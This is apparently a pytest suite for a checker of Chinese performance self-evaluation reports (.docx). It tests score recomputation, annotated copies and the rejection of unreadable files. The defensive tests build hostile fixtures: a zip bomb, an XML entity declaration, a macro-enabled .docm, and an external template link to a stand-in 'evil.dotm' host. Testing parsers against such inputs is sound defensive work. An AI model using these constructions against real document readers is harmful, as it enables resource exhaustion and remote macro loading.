"""The narrative 绩效自评报告 (.docx): the seed report, real published reports, a report beside its workbook,
the annotated copy, and the files that are not readable reports."""

from __future__ import annotations

import hashlib
import io
import tomllib
import zipfile
from pathlib import Path

import pytest
from docx import Document

from jixiao.check.runner import run
from jixiao.cli import main
from jixiao.profile import load_profile
from tests.conftest import ROOT, load_spec, patched, write_case
from tests.fixtures.reports.make_reports import build

REPORTS = ROOT / "tests" / "fixtures" / "reports"
SEED = REPORTS / "R00_hunan_nanxian_kejixingjing.docx"
BAD = ROOT / "tests" / "fixtures" / "bad"
_NOT_STATED = "指标表（或写明指标值、完成值、分值、得分的句子）"


def _check(*paths: Path) -> list:
    return run(list(paths), load_profile()).workbooks


def _found(path: Path) -> list[tuple[str, str, object, object]]:
    (wb,) = _check(path)
    assert wb.status != "unreadable", wb.error
    return [(f.code, f.where, f.expected, f.actual) for f in wb.findings]


def test_the_seed_report_gives_one_error_and_the_rescore() -> None:
    (wb,) = _check(SEED)
    assert wb.layout == "report"
    (finding,) = wb.findings  # nothing for the empty 经济效益指标 row (0分, 0分)
    assert (finding.code, finding.severity.value, finding.where, finding.expected, finding.actual) == (
        "I005", "error", "表2!F3", 14.7, 15)
    assert "后续运维到位率" in finding.message
    assert wb.score is not None and (wb.score.claimed_total, wb.score.recomputed_total) == (99, 98.7)
    assert (wb.score.claimed_grade_text, wb.score.claimed_grade, wb.score.recomputed_grade) == ("优秀", "优", "优")
    assert wb.project == {"name": "科技兴警专项", "year": "2025", "department": "南县公安局", "unit": "南县公安局"}


def _seed_blocks() -> list[dict]:
    return tomllib.loads((REPORTS / "sources" / "R00_hunan_nanxian_kejixingjing.toml").read_text("utf-8"))["blocks"]


def _write(blocks: list[dict], path: Path) -> Path:
    build(blocks).save(str(path))
    return path


def test_a_conclusion_that_is_not_the_sum_of_the_sections_is_one_finding(tmp_path: Path) -> None:
    blocks = _seed_blocks()
    for b in blocks:
        if b["kind"] == "paragraph" and "项目绩效自评得分99分" in b["text"]:
            b["text"] = b["text"].replace("项目绩效自评得分99分", "项目绩效自评得分100分")
    found = _found(_write(blocks, tmp_path / "r.docx"))
    assert found == [("I005", "表2!F3", 14.7, 15), ("T004", "第32段“自评得分100分”", 98.7, 100)]


def test_a_figure_written_twice_differently_and_a_rate_against_its_amounts(tmp_path: Path) -> None:
    blocks = _seed_blocks()
    for b in blocks:
        if b["kind"] == "paragraph" and b["text"].startswith("项目资金233万元全部按预算执行"):
            b["text"] = b["text"].replace("执行率100%", "执行率95%")
    found = _found(_write(blocks, tmp_path / "r.docx"))
    assert ("R002", "第13段“执行率95%”", "100%", "95%") in found  # stated 100% in 第7段
    assert [f for f in found if f[0] not in ("I005", "R002")] == []


def test_a_heading_score_that_is_not_the_sum_of_its_table(tmp_path: Path) -> None:
    blocks = _seed_blocks()
    for b in blocks:
        if b.get("text") == "（三）效益指标（30分，得分29分）":
            b["text"] = "（三）效益指标（30分，得分30分）"
    found = _found(_write(blocks, tmp_path / "r.docx"))
    assert found == [("T003", "第15段“（三）效益指标（30分，得分30分）”", 28.7, 30), ("I005", "表2!F3", 14.7, 15)]


# Real published reports (README.md): every finding, exactly. Most are narratives whose stored copies end
# before any table (R003 says once what is not stated); R10–R12 are published 自评表 inside the document.
REAL: dict[str, list[tuple[str, str, object, object]]] = {
    **{k: [("R003", "第1段", f"{_NOT_STATED}、自评总分、资金预算数和执行数", None)]
       for k in ("R01", "R02", "R07", "R08", "R09")},
    "R04": [("R003", "第1段", f"{_NOT_STATED}、资金预算数和执行数", None)],  # 绩效自评分为98.14分, no table stored
    "R03": [("R003", "第1段", f"{_NOT_STATED}、自评总分", None)],  # 15万 / 12.53万 / 83.53%: consistent
    "R05": [("R003", "第1段", f"{_NOT_STATED}、资金预算数和执行数", None)],  # total 94.9, no table stored
    "R06": [("R003", "第1段", f"{_NOT_STATED}、自评总分", None)],  # 253.7 / 253.66 / 99.98%: consistent
    # 云南 永德 (公开14表 in the document): a met target scored 7, 98% of 100% scored 9 with no reason, weights 40/30/20
    "R10": [("T001", "表1!H12", 50, 40), ("I006", "表1!I14", 10, 7), ("I006", "表1!I17", 9.8, 9),
            ("I010", "表1!J17", None, "98%"), ("T001", "表1!H20", 10, 20)],
    # 云南 隆阳: no 分值 per row; 105 against ≥60 unexplained; the 二级 “社会效益效益指标”; cut in the 效益 block,
    # before any 满意度 row and the 总分: said once (S012)
    "R11": [("S009", "表1!B7", "分值", None), ("I011", "表1!D17", "≧60个", "105个"),
            ("I001", "表1!C21", "经济效益指标、社会效益指标、生态效益指标、环境效益指标、可持续影响指标", "社会效益效益指标"),
            ("S012", "表1!A22", "完整的表", "效益指标")],
    # 四川 中江 (the table of the B01 workbook fixture, here as the report): weights 110, 总分 100 (T002 alone)
    "R12": [("T001", "表1!E10", 50, 70), ("T001", "表1!E17", 30, 20), ("T002", "表1!E21", 100, 110)],
}


@pytest.mark.parametrize("prefix", sorted(REAL))
def test_real_reports_findings_exactly(prefix: str) -> None:
    (path,) = REPORTS.glob(f"{prefix}_*.docx")
    assert _found(path) == REAL[prefix]


def test_every_report_source_has_its_document_and_readme_entry() -> None:
    readme = (REPORTS / "README.md").read_text("utf-8")
    sources = sorted((REPORTS / "sources").glob("R*.toml"))
    for source in sources:
        assert (REPORTS / f"{source.stem}.docx").is_file(), "run make_reports.py"
        assert source.stem in readme
    provinces = {tomllib.loads(s.read_text("utf-8"))["province"] for s in sources if not s.stem.startswith("R00")}
    assert len(provinces) >= 4 and len(sources) - 1 >= 6
    assert set(REAL) | {"R00"} == {s.stem[:3] for s in sources}


def test_a_report_beside_its_workbook(tmp_path: Path) -> None:
    spec = patched(load_spec("01"), {"indicators.5.score": 14.7, "summary.总分.score": 98.7})
    book = write_case(tmp_path / "南县.xlsx", spec)
    report, workbook = sorted(_check(SEED, book), key=lambda w: w.layout != "report")
    r001 = [(f.where, f.expected, f.actual) for f in report.findings if f.code == "R001"]
    assert r001 == [("表2!F3", 14.7, 15), ("第32段“自评得分99分”", 98.7, 99)]
    assert not [f for f in report.findings + workbook.findings if f.code == "B001"]  # not a duplicate submission
    assert main(["check", str(SEED), str(book), "--summary", str(tmp_path / "汇总.xlsx"), "-q"]) == 1
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "汇总.xlsx")["汇总"]
    header = [c.value for c in sheet[1]]
    kinds = {row[0]: row[header.index("版式")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert kinds == {SEED.name: "自评报告", "南县.xlsx": "标准模板"}  # side by side, each said what it is
    same = write_case(tmp_path / "一致.xlsx", load_spec("01"))
    report, _ = sorted(_check(SEED, same), key=lambda w: w.layout != "report")
    assert [f.code for f in report.findings] == ["I005"]  # the report and its workbook agree


def test_the_annotated_copy_comments_the_report_and_leaves_the_input(tmp_path: Path) -> None:
    before = hashlib.sha256(SEED.read_bytes()).hexdigest()
    assert main(["check", str(SEED), "--annotate", str(tmp_path / "副本"), "-q"]) == 1
    (copy,) = (tmp_path / "副本").rglob("*.docx")
    assert copy.name == "R00_hunan_nanxian_kejixingjing.检查结果.docx"
    assert hashlib.sha256(SEED.read_bytes()).hexdigest() == before
    doc = Document(str(copy))
    (comment,) = doc.comments
    assert "I005" in comment.text and "14.7" in comment.text
    cell = doc.tables[1].cell(2, 5)
    assert cell.text == "15 分" and any(r.font.highlight_color is not None for p in cell.paragraphs for r in p.runs)
    original = Document(str(SEED))
    assert [p.text for p in doc.paragraphs] == [p.text for p in original.paragraphs]  # otherwise unchanged


def test_the_json_names_the_layout_and_the_places(tmp_path: Path) -> None:
    import json

    out = tmp_path / "r.json"
    main(["check", str(SEED), "--json", str(out), "-q"])
    (wb,) = json.loads(out.read_text("utf-8"))["workbooks"]
    assert wb["layout"] == "report" and (wb["findings"][0]["sheet"], wb["findings"][0]["cell"]) == ("表2", "F3")


def _zip(path: Path, parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def _docx_with_body(body: str, prolog: str = "") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(SEED) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml":
                head, _, _ = data.decode("utf-8").partition("<w:body>")
                declaration, _, root = head.partition("?>")
                data = f"{declaration}?>{prolog}{root}<w:body>{body}</w:body></w:document>".encode()
            out.writestr(item, data)
    return buf.getvalue()


def _bad(tmp: Path) -> dict[str, tuple[Path, str]]:
    paragraph = "<w:p><w:r><w:t>段落</w:t></w:r></w:p>"
    row = "<w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr>"
    (tmp / "文本.docx").write_text("这不是 Word 文件", "utf-8")
    (tmp / "加密.docx").write_bytes((BAD / "encrypted.xlsx").read_bytes())  # the same OLE container as Office uses
    (tmp / "宏.docm").write_bytes(SEED.read_bytes())
    (tmp / "旧版.doc").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    (tmp / "扫描件.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    (tmp / "一万段.docx").write_bytes(_docx_with_body(paragraph * 10_000))
    (tmp / "五千行.docx").write_bytes(_docx_with_body(f"<w:tbl>{row * 5_000}</w:tbl>"))
    (tmp / "实体.docx").write_bytes(_docx_with_body(paragraph, '<!DOCTYPE x [<!ENTITY a "a">]>'))
    _zip(tmp / "炸弹.docx", {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<" + b"a" * 30_000_000 + b">"})
    return {
        "文本.docx": (tmp / "文本.docx", "不是有效的 .docx 文件"),
        "加密.docx": (tmp / "加密.docx", "文件已加密"),
        "宏.docm": (tmp / "宏.docm", "含宏的 Word 文档（.docm）不读取，宏也不会运行"),
        "旧版.doc": (tmp / "旧版.doc", "旧版 Word（.doc）文件：请用 Word 或 WPS 另存为 .docx"),
        "扫描件.pdf": (tmp / "扫描件.pdf", "PDF 文件不读取"),
        "一万段.docx": (tmp / "一万段.docx", "文档超过 5000 段"),
        "五千行.docx": (tmp / "五千行.docx", "表1超过 1000 行"),
        "实体.docx": (tmp / "实体.docx", "XML 实体声明"),
        "炸弹.docx": (tmp / "炸弹.docx", "疑似压缩炸弹"),
    }


def test_files_that_are_not_readable_reports_say_why_and_nothing_stops(tmp_path: Path) -> None:
    cases = _bad(tmp_path)
    results = {Path(w.path).name: w for w in _check(*(p for p, _ in cases.values()), SEED)}
    for name, (_, reason) in cases.items():
        assert results[name].status == "unreadable" and reason in (results[name].error or ""), (name, results[name].error)
    assert results[SEED.name].status == "errors"  # the good report in the same run is checked


def test_external_links_are_never_followed(tmp_path: Path) -> None:
    """A report whose relationships point outside (a template on a server, a linked picture) is read from its own
    text only: the result is the seed's, and the links are not in any finding."""
    buf = io.BytesIO()
    with zipfile.ZipFile(SEED) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.'
                                    b'org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/'
                                    b'evil.dotm" TargetMode="External"/></Relationships>')
            out.writestr(item, data)
    path = tmp_path / "外链.docx"
    path.write_bytes(buf.getvalue())
    assert _found(path) == [("I005", "表2!F3", 14.7, 15)]


def _rezip(source: Path, target: Path, member: str, change: object) -> Path:
    """A copy of ``source`` with one part's bytes passed through ``change``."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item.filename)
            out.writestr(item, change(data) if item.filename == member else data)  # type: ignore[operator]
    return target


def test_a_ragged_table_s_comment_lands_on_its_own_cell(tmp_path: Path) -> None:
    """Row 2 of the indicator table one cell short (Word writes such rows): the comment on 表2!F3 still
    goes on row 3's 得分 cell, not on a cell shifted by the short row."""
    def drop_cell(xml: bytes) -> bytes:
        start = xml.index("无相关任务指标".encode())
        cell_start = xml.rindex(b"<w:tc>", 0, start)
        return xml[:cell_start] + xml[xml.index(b"</w:tc>", start) + len(b"</w:tc>"):]

    ragged = _rezip(SEED, tmp_path / "参差.docx", "word/document.xml", drop_cell)
    assert _found(ragged) == [("I005", "表2!F3", 14.7, 15)]
    assert main(["check", str(ragged), "--annotate", str(tmp_path / "副本"), "-q"]) == 1
    (copy,) = (tmp_path / "副本").rglob("*.docx")
    doc = Document(str(copy))
    rows = doc.tables[1]._tbl.tr_lst
    assert len(rows[1].tc_lst) == 6
    from docx.table import _Cell

    score = _Cell(rows[2].tc_lst[5], doc.tables[1])
    assert score.text == "15 分" and any(r.font.highlight_color is not None for p in score.paragraphs for r in p.runs)
    others = [_Cell(tc, doc.tables[1]) for tr in rows for tc in tr.tc_lst if tc is not rows[2].tc_lst[5]]
    assert not any(r.font.highlight_color is not None for c in others for p in c.paragraphs for r in p.runs)


def test_a_malformed_cell_width_is_read_as_one_column(tmp_path: Path) -> None:
    def widen(xml: bytes) -> bytes:  # the first cell of the document claims a width no one can read
        return xml.replace(b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="wide"/>', 1)

    path = _rezip(SEED, tmp_path / "宽度.docx", "word/document.xml", widen)
    (wb,) = _check(path)
    assert wb.status == "errors" and [f.code for f in wb.findings] == ["I005"]


def test_a_document_that_is_not_a_report_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    doc = Document()
    doc.add_paragraph("关于召开2025年度工作会议的通知")
    doc.add_paragraph("各单位：定于12月10日上午9时在三楼会议室召开工作会议，请准时参加。")
    doc.save(str(tmp_path / "通知.docx"))
    (wb,) = _check(tmp_path / "通知.docx")
    assert wb.status == "unreadable" and "不像是一份绩效自评报告" in (wb.error or "")
    assert main(["check", str(tmp_path / "通知.docx")]) == 1  # the console names the file beside the reason
    out = capsys.readouterr().out
    assert "通知.docx" in out and "不像是一份绩效自评报告" in out


def test_a_breakdown_of_the_spending_is_not_the_spending_restated(tmp_path: Path) -> None:
    blocks = _seed_blocks()
    at = next(i for i, b in enumerate(blocks) if b["kind"] == "paragraph" and "执行率100%" in b["text"])
    blocks.insert(at + 1, {"kind": "paragraph", "text": "其中设备购置支出120万元，运维服务支出113万元。"})
    assert _found(_write(blocks, tmp_path / "r.docx")) == [("I005", "表2!F3", 14.7, 15)]
    blocks[at + 1]["text"] = "全年支出120万元。"  # the spending itself, written differently: R002
    assert [f[0] for f in _found(_write(blocks, tmp_path / "r2.docx"))].count("R002") == 1


@pytest.mark.parametrize("title", ["关于黄山区统计局2023年度第五次全国经济普查项目的绩效自评报告",
                                   "黄山区统计局关于2023年度第五次全国经济普查项目的绩效评价报告"])
def test_a_title_with_guanyu_and_xiangmu_names_the_project(title: str, tmp_path: Path) -> None:
    """R05 (a narrative: its title is the only place that names the project) with the title written the other
    common ways: “关于” and “……项目的” are not part of the unit or the project."""
    blocks = tomllib.loads((REPORTS / "sources" / "R05_anhui_huangshanqu_jingji_pucha.toml").read_text("utf-8"))["blocks"]
    blocks[0]["text"] = title
    (wb,) = _check(_write(blocks, tmp_path / "r.docx"))
    assert (wb.project["name"], wb.project["unit"], wb.project["year"]) == ("第五次全国经济普查", "黄山区统计局", "2023")


def test_a_folder_takes_reports_but_not_scans(tmp_path: Path) -> None:
    from jixiao.check.discover import discover

    folder = tmp_path / "报送"
    folder.mkdir()
    (folder / "报告.docx").write_bytes(SEED.read_bytes())
    (folder / "扫描件.pdf").write_bytes(b"%PDF-1.4\n")
    (folder / "旧稿.doc").write_bytes(b"\xd0\xcf\x11\xe0" + b"\0" * 60)
    (folder / "~$报告.docx").write_bytes(b"lock")
    write_case(folder / "表.xlsx", load_spec("01"))
    files, _ = discover([folder])
    assert sorted(p.name for p in files) == ["报告.docx", "表.xlsx"]
    named, _ = discover([folder / "扫描件.pdf"])
    assert [p.name for p in named] == ["扫描件.pdf"]  # named: checked, and told why it cannot be read


def test_a_report_whose_table_is_a_regional_form_is_scored_by_its_profile() -> None:
    """A 自评报告 whose table is the official form is recognised as that form is: 云南 龙阳's table (预算执行 20 分)
    is scored by budget20, the others by the national profile (review of issue 22)."""
    report = run(sorted(REPORTS.glob("R*.docx")), load_profile())
    profiles = {Path(w.path).name[:3]: w.profile for w in report.workbooks}
    assert profiles.pop("R11") == "budget20"
    assert set(profiles.values()) == {"national"}
